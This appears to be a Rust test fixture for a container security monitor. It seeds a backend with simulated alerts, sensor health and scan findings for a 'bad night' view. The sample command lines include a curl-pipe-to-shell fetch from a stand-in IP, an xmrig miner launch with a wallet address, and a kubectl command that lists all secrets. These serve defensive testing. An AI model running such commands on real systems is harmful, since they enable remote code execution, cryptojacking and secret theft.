//! A cluster on a bad night: what the page shows when it matters.

use crate::kubernetes::{facts, finding, scan};
use crate::publisher::Publisher;
use crate::records::{alert, container, process, status};
use crate::running::Backend;
use event_model::{
    Alert, AlertSubject, BlindRule, Component, FindingSeverity, Lane, Loss, LossReason, Priority,
    ProbeCoverage, ProbeState, Record, SensorStatus, SourceId, Timestamp,
};

/// Records of one source, sent and acknowledged one after the other.
pub struct Sender {
    publisher: Publisher,
    pub source: SourceId,
    sent: [u64; 4],
}

impl Sender {
    pub async fn connect(backend: &Backend, node: &str) -> Self {
        let publisher = Publisher::connect(backend, node).await;
        Self { publisher, source: SourceId::generate(), sent: [0; 4] }
    }

    pub async fn send(&mut self, record: Record) {
        self.send_at_once(&[record]).await;
    }

    /// Sends records of one lane in one envelope.
    pub async fn send_at_once(&mut self, records: &[Record]) {
        let lane = records[0].lane();
        let sent = &mut self.sent[lane.index()];
        let first = *sent + 1;
        *sent += records.len() as u64;
        let last = *sent;
        self.publisher.send(self.source, first, records).await;
        self.publisher.acknowledged(lane, last).await;
    }
}

/// Seconds ago, rule, priority, container, command line.
const ACTS: [(u64, &str, Priority, char, &str); 6] = [
    (
        4000,
        "Package manager in a container",
        Priority::Error,
        'c',
        "/usr/bin/apt-get install -y nmap",
    ),
    (
        900,
        "Kubernetes client tool in a container",
        Priority::Notice,
        'b',
        "/usr/local/bin/kubectl get secrets -A",
    ),
    (610, "Executable not of the image (drift)", Priority::Error, 'b', "/tmp/.x/kworkerds"),
    (60, "Shell in a container", Priority::Warning, 'a', "/bin/sh -i"),
    (42, "Fileless execution (memfd)", Priority::Critical, 'a', "memfd:kdevtmpfsi --daemon"),
    (
        7,
        "Miner by its arguments",
        Priority::Critical,
        'a',
        "/tmp/xmrig -o stratum+tcp://pool.example.net:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot\
         Xft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level=1 --cpu-max-threads-hint=75",
    ),
];

fn act((age, rule, priority, place, line): (u64, &str, Priority, char, &str)) -> Alert {
    let arguments: Vec<_> = line.split(' ').collect();
    let mut made = alert(rule, priority, &arguments, Some(container(place)));
    made.time = Timestamp(made.time.0 - age * 1_000_000_000);
    made.detected_at = Timestamp(made.time.0 + 2_300_000);
    made.message = format!("{rule} (command={line} container=app)");
    made.tags = vec!["container".into(), "mitre_execution".into(), "T1496".into()];
    let AlertSubject::Act { process_chain, .. } = &mut made.subject else { unreachable!() };
    process_chain[0].executable.upper_layer = line.starts_with("/tmp");
    process_chain[0].executable.memfd = line.starts_with("memfd");
    let shell =
        process(250, Some(200), &["/bin/sh", "-c", "curl -s http://198.51.100.7/i.sh | sh"]);
    process_chain.insert(1, shell);
    made
}

/// Fills a backend. The publishers stay connected as long as the senders live.
pub async fn bad_night(backend: &Backend) -> [Sender; 2] {
    let mut first = Sender::connect(backend, "ip-10-0-3-17").await;
    let mut second = Sender::connect(backend, "ip-10-0-3-18").await;
    for made in ACTS.map(act) {
        first.send(Record::Alert(Box::new(made))).await;
    }
    first.send(Record::SensorStatus(Box::new(healthy(first.source)))).await;
    second.send(Record::SensorStatus(Box::new(failing(second.source)))).await;
    let now = Timestamp::now();
    let loss = Loss {
        lane: Lane::Telemetry,
        kind: "exec".into(),
        reason: LossReason::RingFull,
        count: 1243,
        since: now,
        until: now,
    };
    second.send(Record::Loss(loss)).await;
    let found = vec![
        finding("payments-gateway-of-the-second-generation", FindingSeverity::Critical),
        finding("web", FindingSeverity::Medium),
    ];
    second.send(scan(1, vec![facts()])).await;
    second.send(scan(1, found)).await;
    [first, second]
}

fn healthy(source: SourceId) -> SensorStatus {
    let Record::SensorStatus(mut said) = status(source, Component::CollectorDs, &[]) else {
        unreachable!()
    };
    let probe = |probe: &str, hook: &str| ProbeCoverage {
        probe: probe.into(),
        hook: hook.into(),
        state: ProbeState::Active,
        reason: None,
    };
    said.probes = vec![
        probe("exec", "tp_btf/sched_process_exec"),
        probe("fork", "tp_btf/sched_process_fork"),
        probe("exit", "tp_btf/sched_process_exit"),
        probe("cgroup", "tp_btf/cgroup_mkdir"),
    ];
    *said
}

fn failing(source: SourceId) -> SensorStatus {
    let mut said = healthy(source);
    let problem = "/run/containerd/containerd.sock: permission denied; container names are missing";
    said.problems = vec![problem.into()];
    said.probes[3].state = ProbeState::Unsupported;
    said.probes[3].reason = Some("this kernel has no such tracepoint".into());
    let reason = "needs container metadata".into();
    said.blind_rules = vec![BlindRule { rule: "Shell in a container".into(), reason }];
    said
}
